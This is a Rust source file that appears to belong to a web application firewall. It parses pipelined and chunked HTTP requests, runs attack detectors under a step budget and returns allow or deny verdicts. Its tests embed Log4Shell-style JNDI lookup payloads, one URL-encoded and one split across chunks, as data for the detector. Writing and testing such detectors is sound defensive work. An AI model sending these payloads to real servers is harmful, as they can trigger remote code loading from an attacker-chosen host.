//! One file of requests through codec, body reading and detectors.

use crate::canon::path::Readings;
use crate::detect::Detectors;
use crate::flow::{Evidence, Found, Fuel, Part, Reason, Sensitivity};
use crate::protocol::Malformed;
use crate::protocol::body::{self, Declared};
use crate::protocol::head::trailer_parts;
use crate::protocol::http1::{self, BodyDecoder, Framing, RequestHead, RequestView};
use std::time::Instant;

/// What judges.
pub(super) struct Judge {
    pub(super) detectors: Detectors,
    pub(super) sensitivity: Sensitivity,
}

/// What came of it.
pub(super) struct Verdict {
    /// The answer's status: 200 when it would be forwarded.
    pub(super) status: u16,
    /// Why it is not.
    pub(super) reason: &'static str,
    /// What was found, in whichever request of the file it stands.
    pub(super) evidence: Vec<Evidence>,
    /// The largest sum of weights of one request, and the threshold.
    pub(super) total: u32,
    pub(super) threshold: u32,
    /// How long decoding and detection took.
    pub(super) nanoseconds: u128,
}

impl Verdict {
    pub(super) fn denies(&self) -> bool {
        self.status != 200
    }
}

const INCOMPLETE: &str = "incomplete-request";
const BUDGET: &str = "judgement-budget";
const ATTACK: &str = "attack-detected";

impl Judge {
    /// Judges every request in `bytes`; the first that is denied decides.
    pub(super) fn judge(&self, bytes: &[u8]) -> Verdict {
        let begun = Instant::now();
        let mut verdict = Verdict {
            status: 200,
            reason: "",
            evidence: vec![],
            total: 0,
            threshold: self.sensitivity.threshold(),
            nanoseconds: 0,
        };
        let mut rest = bytes;
        while !rest.is_empty() && !verdict.denies() {
            rest = self.request(rest, &mut verdict).unwrap_or_else(|refused| {
                (verdict.status, verdict.reason) = refused;
                &[]
            });
        }
        verdict.nanoseconds = begun.elapsed().as_nanos();
        verdict
    }

    /// Judges the request at the start of `bytes`; what follows it.
    fn request<'a>(&self, bytes: &'a [u8], verdict: &mut Verdict) -> Result<&'a [u8], (u16, &'static str)> {
        let limits = http1::Limits::default();
        let head = RequestHead::decode(bytes, &limits).map_err(refused)?.ok_or((408, INCOMPLETE))?;
        let view = head.view(bytes);
        let request = view.request();
        let (mut found, mut fuel) = (Found::default(), Fuel::new(budget(bytes.len())));
        self.detectors.inspect(&request.parts(), &mut found, &mut fuel);
        let accesses = request.accesses(&Readings::default()).map(|_| ());
        let mut body = Vec::new();
        let rest = bytes.get(head.len..).unwrap_or_default();
        let mut decoder = BodyDecoder::new(head.framing, &limits);
        let mut consumed = 0;
        if head.framing != Framing::None {
            let progress = decoder.decode(rest, &mut body).map_err(refused)?;
            consumed = progress.consumed;
            self.inspect_body(view, &body, &mut found, &mut fuel)?;
            self.detectors.inspect(&trailer_parts(decoder.trailers().iter()), &mut found, &mut fuel);
        }
        verdict.total = verdict.total.max(found.total());
        verdict.evidence.append(&mut found.take());
        if self.sensitivity.denies(verdict.total) {
            return Err((403, ATTACK));
        }
        accesses.map_err(refused)?;
        if fuel.is_empty() {
            return Err((403, BUDGET));
        }
        Ok(rest.get(consumed..).unwrap_or_default())
    }

    fn inspect_body(
        &self,
        view: RequestView<'_>,
        body: &[u8],
        found: &mut Found,
        fuel: &mut Fuel,
    ) -> Result<(), (u16, &'static str)> {
        let declared = Declared::of(view.headers()).map_err(refused)?;
        let limits = body::Limits::default();
        let opened = body::open(body, &declared, &limits, fuel).map_err(refused)?;
        let parts: Vec<Part<'_>> = opened.parts(&limits, fuel).map_err(refused)?;
        self.detectors.inspect(&parts, found, fuel);
        Ok(())
    }
}

/// Steps for judging a request of this size.
fn budget(bytes: usize) -> u64 {
    50_000 + 200 * bytes as u64
}

fn refused(malformed: Malformed) -> (u16, &'static str) {
    let why: Reason = malformed.why;
    (http1::status(&why), why.name)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn judged(text: &str) -> Verdict {
        Judge { detectors: Detectors::default(), sensitivity: Sensitivity::Default }.judge(text.as_bytes())
    }

    #[test]
    fn attack_in_the_second_request_denies() {
        let verdict =
            judged("GET / HTTP/1.1\r\nHost: a\r\n\r\nGET /?q=%24%7Bjndi:ldap://x/a%7D HTTP/1.1\r\nHost: a\r\n\r\n");
        assert_eq!((verdict.status, verdict.reason), (403, ATTACK));
    }

    #[test]
    fn attack_in_a_chunked_body_denies() {
        let verdict = judged(
            "POST / HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n\
             1E\r\n{\"a\": \"${jndi:ldap://10.0.0.1/\r\n4\r\na}\"}\r\n0\r\n\r\n",
        );
        assert_eq!(verdict.status, 403);
    }

    #[test]
    fn half_a_request_is_incomplete() {
        assert_eq!(judged("GET / HTTP/1.1\r\nHost").reason, INCOMPLETE);
        assert!(!judged("GET / HTTP/1.1\r\nHost: a\r\n\r\n").denies());
    }
}
